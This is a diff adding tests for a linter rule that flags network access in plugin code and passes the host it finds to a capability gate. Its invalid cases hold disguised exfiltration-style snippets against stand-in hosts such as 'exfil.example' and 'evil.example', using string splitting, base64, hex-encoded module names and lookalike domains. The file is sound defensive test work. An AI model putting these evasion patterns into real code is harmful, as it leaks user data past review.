@@ -1,0 +1,74 @@
+import { describe, expect, it } from 'vitest';
+import rule from '../../rules/no-network.js';
+import { capabilityCovers } from '../../rules/utils/manifest.js';
+import { commonjs, gateReports, inDeclaredPlugin, ruleTester } from './rule-tester.js';
+
+const mod = (line: number, column: number, module?: string) => ({ messageId: 'module', line, column, ...(module && { data: { module } }) });
+const global = (line: number, column: number, data?: Record<string, string>) => ({ messageId: 'global', line, column, ...(data && { data }) });
+
+ruleTester.run('no-network', rule, {
+  valid: [
+    // A local function named fetch, and methods named like the globals.
+    'async function fetch(url) { return cache[url]; } fetch("https://evil.example");',
+    'const fetch = (x) => x; fetch("https://evil.example"); api.fetch("/users"); this.fetch(); client.WebSocket;',
+    'class C { fetch(u) {} go() { this.fetch("https://x.example"); } }',
+    // Words in strings and comments, config keys, modules that only contain the names.
+    '// fetch("https://evil.example")\nconst doc = "new WebSocket(url)"; const cfg = { http: 1, net: 2, fetch: true };',
+    'import x from "./http.js"; import y from "my-net-utils"; import z from "httpx-docs";',
+    { code: 'import type { IncomingMessage } from "node:http"; let m: IncomingMessage;', filename: 'types.ts' },
+    // Feature detection does not send anything.
+    'if (typeof fetch === "function") { polyfilled = false; }',
+    { code: '!function(e){var t=e.fetch||null;e.a=function(n){return n.exec(t)}}({});', ...commonjs },
+    // In the editor, a host the manifest declares is only low.
+    { code: 'fetch("https://api.example.com/v1"); new WebSocket("wss://edge.cdn.example.com/");', ...inDeclaredPlugin },
+  ],
+  invalid: [
+    { code: 'import http from "node:http";', errors: [mod(1, 1, 'http')] },
+    { code: 'import { connect } from "tls"; export { lookup } from "dns/promises";', errors: [mod(1, 1, 'tls'), mod(1, 32, 'dns')] },
+    { code: 'const net = require("n" + "et");', ...commonjs, errors: [mod(1, 13, 'net')] },
+    { code: 'const d = require(Buffer.from("646772616d", "hex").toString());', ...commonjs, errors: [mod(1, 11, 'dgram')] },
+    { code: 'process.mainModule.require("https").get("https://x.example");', ...commonjs, errors: [mod(1, 1, 'https')] },
+    { code: 'const h2 = await import(`node:${"http"}2`);', errors: [mod(1, 18, 'http2')] },
+    { code: 'import axios from "axios"; import got from "got"; import { request } from "undici";', errors: [mod(1, 1, 'axios'), mod(1, 28, 'got'), mod(1, 51, 'undici')] },
+    { code: 'const WebSocket = require("ws"); const io = require("socket.io-client");', ...commonjs, errors: [mod(1, 19, 'ws'), mod(1, 45, 'socket.io-client')] },
+    // fetch, plain and disguised; the host is recorded when the address folds.
+    { code: 'await fetch("https://api.example.com/v1/data");', errors: [global(1, 7, { name: 'fetch', target: "'api.example.com'", host: 'api.example.com' })] },
+    { code: 'globalThis.fetch(url);', errors: [global(1, 1, { name: 'fetch', target: 'an address not known before run time' })] },
+    { code: 'window["fe" + "tch"]("https://" + "exfil.example" + "/c?d=" + data);', errors: [global(1, 1)] },
+    { code: 'const f = fetch;\nconst host = "collect.example";\nf(`https://${host}/x`);', errors: [global(3, 1, { name: 'fetch', target: "'collect.example'", host: 'collect.example' })] },
+    { code: 'Reflect.apply(fetch, undefined, ["https://a.example/"]);', errors: [global(1, 1, { name: 'fetch', target: "'a.example'", host: 'a.example' })] },
+    { code: 'fetch.call(null, new URL("/upload", "https://b.example"));', errors: [global(1, 1, { name: 'fetch', target: "'b.example'", host: 'b.example' })] },
+    { code: 'const g = Function("return this")();\ng.fetch(atob("aHR0cHM6Ly9jLmV4YW1wbGU="));', errors: [global(2, 1, { name: 'fetch', target: "'c.example'", host: 'c.example' })] },
+    { code: 'const f = typeof fetch === "function" ? fetch : polyfill;\nf("https://d.example/");', errors: [global(2, 1, { name: 'fetch', target: "'d.example'", host: 'd.example' })] },
+    { code: 'const go = fetch.bind(globalThis); go("/relative");', errors: [global(1, 36, { name: 'fetch', target: 'an address not known before run time' })] },
+    // The other globals.
+    { code: 'const ws = new WebSocket("wss://live.example:8443/feed");', errors: [global(1, 12, { name: 'WebSocket', target: "'live.example'", host: 'live.example' })] },
+    { code: 'const x = new self.XMLHttpRequest(); x.open("POST", u);', errors: [global(1, 11, { name: 'XMLHttpRequest', target: 'an address not known before run time' })] },
+    { code: 'new EventSource("https://sse.example/stream");', errors: [global(1, 1, { name: 'EventSource', target: "'sse.example'", host: 'sse.example' })] },
+    { code: 'navigator.sendBeacon("https://t.example/b", body);\nglobalThis.navigator["send" + "Beacon"](u, b);', errors: [global(1, 1, { name: 'navigator.sendBeacon', target: "'t.example'", host: 't.example' }), global(2, 1)] },
+    // A host the manifest does not declare stays high.
+    { code: 'fetch("https://api.example.com.evil.example/");', ...inDeclaredPlugin, errors: [global(1, 1, { name: 'fetch', target: "'api.example.com.evil.example'", host: 'api.example.com.evil.example' })] },
+    // Handing fetch to other code.
+    { code: 'const client = createClient({ fetch });', errors: [{ messageId: 'globalPassed', line: 1, column: 31, data: { name: 'fetch' } }] },
+    { code: 'new ApolloLink(globalThis.fetch);', errors: [{ messageId: 'globalPassed', line: 1, column: 16 }] },
+  ],
+});
+
+describe('what the gate receives', () => {
+  const capture = (code: string) => gateReports('no-network', rule, code);
+
+  it('carries the folded host, which the declared hosts are matched against', () => {
+    const [declared, undeclared] = capture('fetch("https://api.example.com/a"); fetch(`https://${"evil"}.example/b`);');
+    const manifest = { network: { hosts: ['api.example.com'] } };
+    expect(declared.data.host).toBe('api.example.com');
+    expect(capabilityCovers(manifest, 'network', declared.data)).toBe(true);
+    expect(undeclared.data.host).toBe('evil.example');
+    expect(capabilityCovers(manifest, 'network', undeclared.data)).toBe(false);
+  });
+
+  it('leaves the host out when the address is not known, so only a declared network covers it', () => {
+    const [unknown] = capture('fetch(url);');
+    expect(unknown.data).not.toHaveProperty('host');
+    expect(unknown.kind).toEqual({ category: 'network', severity: 'high', capability: 'network' });
+  });
+});
